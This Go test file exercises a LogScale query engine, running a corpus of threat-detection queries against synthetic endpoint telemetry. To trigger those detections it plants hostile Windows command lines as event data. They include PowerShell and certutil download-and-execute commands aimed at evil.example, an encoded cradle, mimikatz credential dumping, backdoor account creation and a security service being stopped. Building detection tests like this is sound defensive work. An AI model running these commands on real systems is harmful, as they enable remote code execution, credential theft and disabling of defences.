package engine

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/lanner-dev/lanner/cql"
	"github.com/lanner-dev/lanner/internal/sharedtest"
)

// corpusQuery is one query of spec/logscale.md §6.
type corpusQuery struct {
	ID   string // C01…C33, or X1… for the documented one-liners
	Text string
}

var corpusHead = regexp.MustCompile(`^#### (C\d+)\.`)

// loadCorpus reads every logscale code block of §6 of the LogScale spec.
func loadCorpus(t *testing.T) []corpusQuery {
	t.Helper()
	b, err := os.ReadFile(sharedtest.Path(t, "spec", "logscale.md"))
	if err != nil {
		t.Fatal(err)
	}
	text := string(b)
	start := strings.Index(text, "\n## 6.")
	end := strings.Index(text, "\n## 7.")
	if start < 0 || end < start {
		t.Fatal("logscale.md: §6 not found")
	}
	lines := strings.Split(text[start:end], "\n")
	var out []corpusQuery
	id := ""
	extra := 0
	for i := 0; i < len(lines); i++ {
		if m := corpusHead.FindStringSubmatch(lines[i]); m != nil {
			id = m[1]
			continue
		}
		if strings.HasPrefix(lines[i], "#### Extra") {
			id = ""
			continue
		}
		if strings.TrimSpace(lines[i]) != "```logscale" {
			continue
		}
		var q []string
		for i++; i < len(lines) && strings.TrimSpace(lines[i]) != "```"; i++ {
			q = append(q, lines[i])
		}
		qid := id
		if qid == "" {
			extra++
			qid = "X" + string(rune('0'+extra))
		}
		out = append(out, corpusQuery{ID: qid, Text: strings.Join(q, "\n")})
		id = ""
	}
	if len(out) < 33 {
		t.Fatalf("logscale.md §6: found %d queries, want at least 33", len(out))
	}
	return out
}

// corpusEvents is telemetry shaped for the corpus: every event type the
// queries read, with planted activity that each detection should find.
func corpusEvents() string {
	var b strings.Builder
	ts := int64(1767225600000) // 2026-01-01T00:00:00Z
	next := func() string { ts += 60000; return strconv.FormatInt(ts, 10) }
	hosts := []string{"WS-1", "WS-2", "SRV-3"}
	aids := []string{"aaaa1111", "bbbb2222", "cccc3333"}
	pid := 1000
	pr2 := func(h int, parent, image, cmd string, extra ...string) string {
		pid++
		base := image[strings.LastIndexByte(image, '\\')+1:]
		kv := []string{"#event_simpleName", "ProcessRollup2", "#repo", "base_sensor", "#repo.cid", "cid0",
			"event_platform", "Win", "aid", aids[h], "cid", "cid0", "ComputerName", hosts[h],
			"UserName", "alice", "UserSid", "S-1-5-21-1-2-3-1001", "ParentBaseFileName", parent,
			"GrandParentBaseFileName", "explorer.exe", "ImageFileName", image, "FileName", base,
			"FilePath", image[:len(image)-len(base)], "CommandLine", cmd,
			"TargetProcessId", strconv.Itoa(pid), "ParentProcessId", strconv.Itoa(pid - 1), "RawProcessId", strconv.Itoa(pid),
			"AuthenticationID", "999", "SHA256HashData", fmt.Sprintf("%064x", pid), "MD5HashData", fmt.Sprintf("%032x", pid),
			"ConfigBuild", "1007.3.0019405.1", "ProcessStartTime", strconv.FormatInt(ts/1000, 10),
			"ParentImageFileName", `\Device\HarddiskVolume3\Windows\explorer.exe`, "timestamp", next()}
		return ev(append(kv, extra...)...)
	}
	sys := `\Device\HarddiskVolume3\Windows\System32\`
	enc := base64.StdEncoding.EncodeToString(utf16le("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"))
	for round := 0; round < 3; round++ {
		for h := range hosts {
			b.WriteString(pr2(h, "powershell.exe", sys+"nslookup.exe", "nslookup.exe  -q=txt x.evil.example 8.8.8.8 "))
			b.WriteString(pr2(h, "cmd.exe", sys+"whoami.exe", "whoami /all"))
			b.WriteString(pr2(h, "cmd.exe", sys+"net.exe", "net user eve P@ss /add"))
			b.WriteString(pr2(h, "cmd.exe", sys+"net1.exe", "net1 localgroup administrators eve /add"))
			b.WriteString(pr2(h, "cmd.exe", sys+"sc.exe", "sc stop csagent "))
			b.WriteString(pr2(h, "explorer.exe", sys+`WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -enc "+enc))
			b.WriteString(pr2(h, "cmd.exe", sys+"bcdedit.exe", `bcdedit.exe /set {default} recoveryenabled No`))
			b.WriteString(pr2(h, "explorer.exe", `\Device\HarddiskVolume3\Program Files\Google\Chrome\Application\chrome.exe`, `"chrome.exe"`))
			chromePID := strconv.Itoa(pid)
			b.WriteString(pr2(h, "explorer.exe", sys+"regsvr32.exe", `regsvr32.exe /s "C:\Users\Public\evil.dll"`))
			b.WriteString(pr2(h, "explorer.exe", sys+"mshta.exe", `mshta.exe http://evil.example/x/invoice.hta`))
			b.WriteString(pr2(h, "WINWORD.EXE", sys+"rundll32.exe", `rundll32.exe C:\Users\alice\AppData\x.dll,Start`))
			b.WriteString(pr2(h, "explorer.exe", sys+"cmd.exe", `cmd.exe /c curl http://evil.example/p | iex`, "ZoneIdentifier", "3"))
			b.WriteString(pr2(h, "cmd.exe", sys+"certutil.exe", `certutil.exe -urlcache -f http://evil.example/a.exe a.exe`))
			b.WriteString(pr2(h, "explorer.exe", `\Device\HarddiskVolume3\Tools\mimikatz.exe`, `mimikatz.exe sekurlsa::logonpasswords`))
			b.WriteString(ev("#event_simpleName", "SyntheticProcessRollup2", "aid", aids[h], "RawProcessId", strconv.Itoa(pid), "SHA256HashData", "feed", "timestamp", next()))
			b.WriteString(pr2(h, "cmd.exe", sys+"nltest.exe", `nltest.exe /domain_trusts`))
			b.WriteString(pr2(h, "cmd.exe", sys+"whoami.exe", "whoami /priv"))
			b.WriteString(pr2(h, "explorer.exe", sys+`WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe IEX (New-Object Net.WebClient).DownloadString('http://evil.example/b')"))
			for i := 0; i < 12; i++ {
				b.WriteString(ev("#type", "humio", "#kind", "logs", "loglevel", "WARN", "class", "c.h.d.ParserLimitingJob", "id", "p"+strconv.Itoa(h),
					"message", "Setting reject ingest for parser x", "timestamp", next()))
			}
			b.WriteString(ev("#event_simpleName", "NetworkConnectIP4", "event_platform", "Win", "aid", aids[h], "ComputerName", hosts[h],
				"ContextProcessId", chromePID, "RemoteAddressIP4", "8.8.8.8", "RemotePort", "3389", "LocalAddressIP4", "10.0.0.5", "timestamp", next()))
			b.WriteString(ev("#event_simpleName", "NetworkConnectIP4", "event_platform", "Win", "aid", aids[h], "ComputerName", hosts[h],
				"ContextProcessId", chromePID, "RemoteAddressIP4", "10.1.2.3", "RemotePort", strconv.Itoa(1000+round), "timestamp", next()))
			b.WriteString(ev("#event_simpleName", "DnsRequest", "event_platform", "Win", "aid", aids[h], "ComputerName", hosts[h],
				"ContextProcessId", chromePID, "ContextBaseFileName", "chrome.exe", "DomainName", "dns.google", "timestamp", next()))
			b.WriteString(ev("#event_simpleName", "UserIdentity", "aid", aids[h], "AuthenticationID", "999", "UserName", "alice", "timestamp", next()))
			b.WriteString(ev("#event_simpleName", "UserLogon", "aid", aids[h], "LogonType", strconv.Itoa(2+round*8), "timestamp", next()))
			b.WriteString(ev("#event_simpleName", "CommandHistory", "aid", aids[h], "ComputerName", hosts[h], "UserName", "alice",
				"CommandHistory", "Invoke-WebRequest -Uri https://evil.example/payload/x.ps1 -OutFile x.ps1", "timestamp", next()))
			b.WriteString(ev("#event_simpleName", "MSDocxFileWritten", "event_platform", "Win", "aid", aids[h],
				"TargetFileName", `\Device\HarddiskVolume3\Users\alice\Downloads\report.url`, "timestamp", next()))
			b.WriteString(ev("#event_simpleName", "FalconProcessHandleOpDetectInfo", "aid", aids[h], "ComputerName", hosts[h],
				"FileName", "WerFaultSecure.exe", "CommandLine", `WerFaultSecure.exe 1234 5678`, "ContextProcessId", "77",
				"ImageFileName", `\Device\HarddiskVolume3\Windows\System32\WerFaultSecure.exe`, "timestamp", next()))
			b.WriteString(ev("loglevel", "ERROR", "statuscode", strconv.Itoa(200+100*round), "status", "500", "id", "job"+strconv.Itoa(h),
				"#type", "humio", "#kind", "logs", "class", "c.h.d.ParserLimitingJob", "timestamp", next()))
		}
	}
	return b.String()
}

func utf16le(s string) []byte {
	var out []byte
	for _, r := range s {
		out = append(out, byte(r), byte(r>>8))
	}
	return out
}

// savedStubs writes stand-ins for the saved searches the corpus calls.
func savedStubs(t *testing.T) string {
	dir := t.TempDir()
	pkg := filepath.Join(dir, "crowdstrike", "fltr-core")
	if err := os.MkdirAll(pkg, 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(pkg, "zComputerName.cql"), []byte("default(field=ComputerName, value=\"unknown\")\n"), 0o644)
	os.WriteFile(filepath.Join(pkg, "zUrlFalconPid.cql"), []byte(`"Process Explorer" := format("https://falcon.crowdstrike.com/graphs/process-explorer/tree?id=pid:%s:%s", field=[aid, TargetProcessId])`+"\n"), 0o644)
	return dir
}

// corpusFindings are the queries that must return rows on corpusEvents.
var corpusFindings = map[string]bool{
	"C01": true, "C02": true, "C03": true, "C04": true, "C05": true, "C06": true, "C07": true, "C09": true,
	"C10": true, "C11": true, "C12": true, "C13": true, "C14": true, "C16": true,
	"C17": true, "C18": true, "C19": true, "C22": true, "C23": true, "C24": true, "C25": true,
	"C26": true, "C27": true, "C28": true, "C29": true, "C31": true, "C32": true, "C33": true, "X4": true,
	"C08": true,
}

// needsSaved are the queries that call saved searches.
var needsSaved = map[string]bool{"C18": true, "C20": true, "C21": true, "C22": true, "C23": true}

// TestCorpus runs every query of logscale.md §6: each parses and compiles
// (those calling saved searches fail, without --saved, with an error that
// names the flag); each runs on corpusEvents with 1 and 4 workers, and
// without the prefilter, giving the same rows; the detections find their
// planted activity.
func TestCorpus(t *testing.T) {
	qs := loadCorpus(t)
	events := corpusEvents()
	saved := savedStubs(t)
	for _, q := range qs {
		t.Run(q.ID, func(t *testing.T) {
			if q.ID == "X3" {
				// the documented negative example: an empty match guard
				if _, err := cql.ParseWith(q.Text, cql.Options{DefaultParam: &corpusStar}); err == nil {
					t.Log("the empty match guard parses (read as *)")
				}
				return
			}
			pq, err := cql.ParseWith(q.Text, cql.Options{DefaultParam: &corpusStar})
			if err != nil {
				t.Fatalf("parse: %v", err)
			}
			_, err = Compile(pq, Options{})
			if needsSaved[q.ID] {
				if err == nil || !strings.Contains(err.Error(), "--saved") {
					t.Fatalf("want an error naming --saved, got %v", err)
				}
			} else if err != nil {
				t.Fatalf("compile: %v", err)
			}
			opts := Options{SavedDir: saved}
			seq, st1, err := tryRun(q.Text, events, opts, 1, 5)
			if err != nil {
				t.Fatalf("run: %v", err)
			}
			par, _, err := tryRun(q.Text, events, opts, 4, 5)
			if err != nil {
				t.Fatalf("run with 4 workers: %v", err)
			}
			if a, b := rowsText(seq), rowsText(par); a != b {
				t.Fatalf("1 worker and 4 workers differ:\n%s", firstDiff(a, b))
			}
			nopre, _, err := tryRunPre(q.Text, events, opts, 2, 5, false)
			if err != nil {
				t.Fatalf("run without prefilter: %v", err)
			}
			if a, b := rowsText(seq), rowsText(nopre); a != b {
				t.Fatalf("the prefilter changes the result:\n%s", firstDiff(b, a))
			}
			if corpusFindings[q.ID] && len(seq) == 0 {
				t.Errorf("no rows (matched %d events); want the planted activity", st1.Matched)
			}
			t.Logf("%d rows, warnings %v", len(seq), st1.Warnings)
			if os.Getenv("CORPUS_SHOW") == q.ID {
				t.Log("\n" + rowsText(seq))
			}
		})
	}
}

// firstDiff shows the first line where two renderings differ.
func firstDiff(a, b string) string {
	al, bl := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := 0; i < len(al) || i < len(bl); i++ {
		var x, y string
		if i < len(al) {
			x = al[i]
		}
		if i < len(bl) {
			y = bl[i]
		}
		if x != y {
			return fmt.Sprintf("line %d:\n  %.300s\n  %.300s", i+1, x, y)
		}
	}
	return ""
}

// corpusStar stands in for the ?params the corpus queries leave open, as
// LogScale's query editor does.
var corpusStar = "*"
